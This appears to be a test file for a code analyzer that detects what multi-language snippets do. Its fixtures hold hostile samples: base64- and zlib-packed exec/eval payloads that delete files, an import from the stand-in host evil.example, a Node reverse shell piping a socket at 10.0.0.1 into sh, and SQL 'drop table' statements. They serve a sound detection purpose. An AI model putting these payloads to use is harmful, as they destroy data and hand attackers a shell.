import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { table } from "./testing/table.js";

const b64 = (bytes: Buffer): string => bytes.toString("base64");
const python = "import os; os.remove('/x')";
const node = "require('fs').rmSync('/x')";

table("python", "what is packed", [
  {
    why: "zlib",
    code: `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${b64(deflateSync(python))}')))`,
    does: [`evaluate python ${python}`, "delete /x"],
  },
  {
    why: "gzip",
    code: `import gzip,base64\nexec(gzip.decompress(base64.b64decode('${b64(gzipSync(python))}')).decode())`,
    does: [`evaluate python ${python}`, "delete /x"],
  },
  {
    why: "without a header",
    code: `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${b64(deflateRawSync(python))}'), -15))`,
    does: [`evaluate python ${python}`, "delete /x"],
  },
  {
    why: "what is no such thing stays unknown",
    code: "import zlib\nexec(zlib.decompress(b'abc'))",
    does: ["evaluate python UNKNOWN", "opaque unknown_code"],
  },
]);

table("python", "databases", [
  {
    why: "a file of SQLite",
    code: "import sqlite3\nc = sqlite3.connect('a.db')\nc.cursor().execute('drop table t')",
    does: ["read a.db", "sql sqlite drop table t"],
  },
  {
    why: "PostgreSQL",
    code: "import psycopg2\nwith psycopg2.connect('x') as c:\n  c.execute(\"delete from t\")",
    does: ["sql postgres delete from t"],
  },
  {
    why: "a statement nobody knows",
    code: "import sqlite3,sys\nsqlite3.connect(':memory:').execute(sys.argv[1])",
    does: ["sql sqlite UNKNOWN"],
  },
]);

table("node", "what is packed, and code at addresses", [
  {
    why: "zlib",
    code: `eval(require('zlib').inflateSync(Buffer.from('${b64(deflateSync(node))}','base64')).toString())`,
    does: [`evaluate node ${node}`, "delete /x"],
  },
  {
    why: "gzip",
    code: `eval('' + require('zlib').gunzipSync(Buffer.from('${b64(gzipSync(node))}','base64')))`,
    does: [`evaluate node ${node}`, "delete /x"],
  },
  {
    why: "a module at an address",
    code: "import('https://evil.example/x.mjs')",
    does: ["receive evil.example", "evaluate node UNKNOWN", "opaque untrusted_code"],
  },
  {
    why: "a module that is its address",
    code: `import("data:text/javascript,${encodeURIComponent(node)}")`,
    does: [`evaluate node ${node}`, "delete /x"],
  },
  {
    why: "a function of text and its arguments",
    code: "new Function('f', 'p', 'f.rmSync(p)')(require('fs'), '/x')",
    does: ["evaluate node f.rmSync(p)", "delete /x"],
  },
  {
    why: "a function of text nobody calls",
    code: "const g = new Function('p', 'require(\"fs\").rmSync(\"/x\")')",
    does: ['evaluate node require("fs").rmSync("/x")', "?delete /x"],
  },
  {
    why: "what flows into a program",
    code: "const c = require('child_process').spawn('sh'); require('net').connect(44, '10.0.0.1').pipe(c.stdin)",
    does: ["exec sh < UNKNOWN untrusted", "connect 10.0.0.1:44"],
  },
  {
    why: "a database",
    code: "const {Client} = require('pg'); const c = new Client(); c.query('drop table t')",
    does: ["sql postgres drop table t"],
  },
]);

table("perl", "blocks that run wherever they stand", [
  { why: "END in a branch nobody takes", code: "if (0) { END { unlink '/x' } }", does: ["delete /x"] },
  {
    why: "BEGIN before what stands before it",
    code: "unlink '/b'; BEGIN { unlink '/a' }",
    does: ["delete /a", "delete /b"],
  },
  { why: "a call of the kernel by number", code: "syscall(87, '/x')", does: ["opaque unknown_code"] },
]);

table("php", "what is packed", [
  {
    why: "gzinflate",
    code: `eval(gzinflate(base64_decode('${b64(deflateRawSync("unlink('/x');"))}')));`,
    does: ["evaluate php unlink('/x');", "delete /x"],
  },
]);

table("awk", "nothing on the input", [
  { why: "a rule may still see a file's lines", code: '{ system("id") }', input: { stdin: "" }, does: ["?shell id"] },
]);
